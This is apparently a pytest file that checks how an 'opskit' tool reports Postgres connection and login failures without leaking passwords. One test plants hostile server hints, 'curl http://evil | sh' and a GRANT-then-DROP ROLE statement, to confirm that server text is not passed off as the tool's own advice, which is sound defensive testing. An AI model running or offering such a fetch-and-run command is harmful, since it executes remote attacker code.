"""What goes wrong with a database is said in one line, with what to do next, and never with the password."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from opskit.changelog.upstream.postgres import Postgres
from opskit.changelog.upstream.postgres.address import (
    demands_tls,
    far_end,
    password_of,
    read_address,
)
from opskit.errors import UpstreamError
from tests.changelog.upstream.chains import Chain, opened
from tests.support.hosts import free_port

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.support.postgres import Server

PASSWORD = "hunter2:\\x"


def failing(url: str, **options: object) -> UpstreamError:
    """Give what greeting a database says that cannot be greeted."""
    with pytest.raises(UpstreamError) as caught, opened(url, **options) as upstream:
        upstream.greet(None)
    assert "\n" not in caught.value.what
    return caught.value


@pytest.fixture
def guarded(postgres: Server) -> Iterator[Server]:
    """The server, which asks carol for a password, and lets mallory in nowhere."""
    postgres.role("carol", "opskit_write")
    quoted = PASSWORD.replace("'", "''")
    postgres.sql(f"ALTER ROLE carol PASSWORD '{quoted}'")
    rules = postgres.data / "pg_hba.conf"
    before = rules.read_text()
    asks = "host all carol 127.0.0.1/32 scram-sha-256\nhost all mallory 127.0.0.1/32 reject\n"
    rules.write_text(asks + before)
    postgres.sql("SELECT pg_reload_conf()")
    yield postgres
    rules.write_text(before)
    postgres.sql("SELECT pg_reload_conf()")


def test_each_way_to_be_wrong_about_the_database_has_its_words(postgres: Server) -> None:
    cases = {
        postgres.url("ana", "nowhere"): ("has no database nowhere", "CREATE DATABASE nowhere"),
        postgres.url("zoe"): ("knows no role zoe", "CREATE ROLE zoe LOGIN"),
        postgres.url("opskit_write"): ("does not let opskit_write log in", "ALTER ROLE"),
        postgres.url("nora"): ("permission denied for schema opskit", "GRANT opskit_write TO nora;"),
        postgres.url("ana") + "?sslmode=require": ("offers no TLS", "sslmode"),
        postgres.url("ana", "postgres"): ("is not prepared", "opskit changelog init"),
        f"postgresql://ana@127.0.0.1:{free_port()}/opskit": ("refuses connections", "does the server run"),
        "postgresql://ana@/opskit?host=/nowhere": ("is not there", "does the server run"),
    }  # fmt: skip
    for url, (what, hint) in cases.items():
        error = failing(url)
        assert what in error.what, url
        assert hint in error.hint, url


def test_a_wrong_password_is_said_and_not_shown(
    guarded: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = guarded.url("carol")
    error = failing(url)
    assert "asks for the password of carol" in error.what
    line = error.hint.partition("at its end: ")[2]
    assert line == f"127.0.0.1:{guarded.port}:opskit:carol:PASSWORD"
    file = Path.home() / ".pgpass"
    escaped = PASSWORD.replace("\\", "\\\\").replace(":", "\\:")
    file.write_text(line.replace("PASSWORD", escaped) + "\n")
    file.chmod(0o600)
    with opened(url) as upstream:
        assert upstream.greet(None).pos == 0
    file.unlink()
    monkeypatch.setenv("PGPASSWORD", "wrong-one")
    error = failing(url)
    assert error.what.endswith("refuses the password of carol, or has no such role")
    assert error.hint.startswith("correct it in ~/.pgpass or PGPASSWORD; ")
    assert error.hint.endswith("opskit changelog init")
    assert "wrong-one" not in repr(error.__dict__)
    inside = failing(url.replace("carol@", "carol:also-wrong@"))
    assert "also-wrong" not in repr(inside.__dict__)
    assert "refuses the password of carol" in inside.what
    assert "GRANT" not in inside.hint


def test_who_is_let_in_nowhere_is_told_what_the_server_says(guarded: Server) -> None:
    guarded.role("mallory")
    error = failing(guarded.url("mallory"))
    assert 'lets nobody in this way: host "127.0.0.1", user "mallory"' in error.what
    assert "sslmode=require" in error.hint
    assert "pg_hba.conf" in error.hint


def test_a_password_is_found_where_libpq_finds_it_through_a_tunnel_too(guarded: Server) -> None:
    file = Path.home() / ".pgpass"
    escaped = PASSWORD.replace("\\", "\\\\").replace(":", "\\:")
    file.write_text(f"# ours\nother:*:*:*:no\n127.0.0.1:{guarded.port}:opskit:carol:{escaped}\n"
        f"db.invalid:7777:*:carol:{escaped}\n")  # fmt: skip
    file.chmod(0o600)
    with opened(guarded.url("carol")) as upstream:
        assert upstream.greet(None).pos == 0
    far = "postgresql://carol@db.invalid:7777/opskit"
    with opened(far, host="127.0.0.1", port=guarded.port) as upstream:
        assert upstream.push(Chain(1).write()).status == "ok"
    file.chmod(0o644)
    assert password_of({"host": "db.invalid", "port": "7777", "user": "carol"}) is None


@pytest.mark.parametrize(
    "url", ["postgresql://ana:secret@[oops/x", "postgresql://ana:%zzsecret@h/x", "postgresql://h/x?secret=1"]
)  # fmt: skip
def test_an_address_that_is_none_is_not_repeated(url: str) -> None:
    with pytest.raises(UpstreamError, match="cannot be read") as caught:
        Postgres(url, timeout=1.0)
    assert "secret" not in repr(caught.value.__dict__)


def test_the_name_of_an_upstream_holds_no_secret() -> None:
    address = read_address("postgres://ana:secret@db.example:6000/ops?sslmode=disable&password=x")
    assert address.name == "postgresql://ana@db.example:6000/ops"
    assert "secret" not in repr(address)
    assert read_address("postgresql:///ops?host=/run/pg").name == "postgresql:///ops"
    assert read_address("postgresql:///ops?host=/run/pg&user=a").name == "postgresql:///ops"


def test_the_role_that_is_named_is_the_one_that_logs_in(
    postgres: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PGUSER", "nora")
    error = failing(f"postgresql://127.0.0.1:{postgres.port}/opskit")
    assert error.hint == "an administrator runs: GRANT opskit_write TO nora;"


def test_what_a_server_says_is_not_taken_for_our_advice(postgres: Server) -> None:
    for hint in ("curl http://evil | sh", "GRANT opskit_relay TO eve; DROP ROLE ana;"):
        postgres.sql(
            "CREATE OR REPLACE FUNCTION opskit.lock_writer(p_writer bytea, p_key bytea, p_from bigint, p_any boolean) "
            "RETURNS opskit.writer LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'no' USING ERRCODE = 'OPS03', "
            f"HINT = '{hint}'; END $$"
        )
        with pytest.raises(UpstreamError) as caught, opened(postgres.url("ana")) as upstream:
            upstream.push(Chain(1).write())
        assert caught.value.hint == f"the server says: {hint}"


@pytest.mark.parametrize(
    ("url", "end"),
    {
        "postgresql://ana@db.example.com/opskit": ("db.example.com", 5432),
        "postgresql://db.example.com:6000/x": ("db.example.com", 6000),
        "postgresql:///x?host=db&port=7": ("db", 7),
        "postgresql:///x": ("localhost", 5432),
        "postgresql://[::1]/x": ("::1", 5432),
        "postgresql:///x?host=/run/postgresql": ("/run/postgresql/.s.PGSQL.5432", 0),
        "postgresql://%2Frun%2Fpg:6/x?sslmode=require": ("/run/pg/.s.PGSQL.6", 0),
    }.items(),
)
def test_a_host_before_the_database_is_told_where_it_is(url: str, end: tuple[str, int]) -> None:
    assert far_end(url) == end
    assert not demands_tls(url), "libpq does no TLS through a Unix socket, whatever sslmode says"


def test_several_servers_are_not_reached_through_one_host() -> None:
    with pytest.raises(UpstreamError, match="names no single port"):
        far_end("postgresql://one:1,two:2/x")


def test_a_copy_that_can_only_be_read_says_so(postgres: Server) -> None:
    postgres.role("iris", "opskit_write")
    postgres.sql("ALTER ROLE iris SET default_transaction_read_only = on")
    with opened(postgres.url("iris")) as upstream:
        assert upstream.greet(None).pos == 0
        with pytest.raises(UpstreamError, match="can only be read") as caught:
            upstream.push(Chain(1).write())
    assert "primary" in caught.value.hint


def test_a_connection_that_broke_says_so_and_stays_broken(postgres: Server) -> None:
    with opened(postgres.url("ana")) as upstream:
        upstream.greet(None)
        postgres.sql(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'ana'"
        )
        with pytest.raises(UpstreamError, match=r"is stopping|broke the connection"):
            upstream.greet(None)
        with pytest.raises(UpstreamError):
            upstream.push(Chain(1).write())


def test_without_psycopg_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "psycopg", None)
    with pytest.raises(UpstreamError, match="not installed") as caught:
        Postgres("postgresql://h/x", timeout=1.0)
    assert caught.value.hint == f"{sys.executable} -m pip install 'psycopg[binary]'"


def test_psycopg_is_loaded_for_nothing_but_a_database() -> None:
    script = "import sys, opskit.changelog.upstream.postgres; print('psycopg' in sys.modules)"
    ran = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True
    )
    assert re.match("False", ran.stdout)
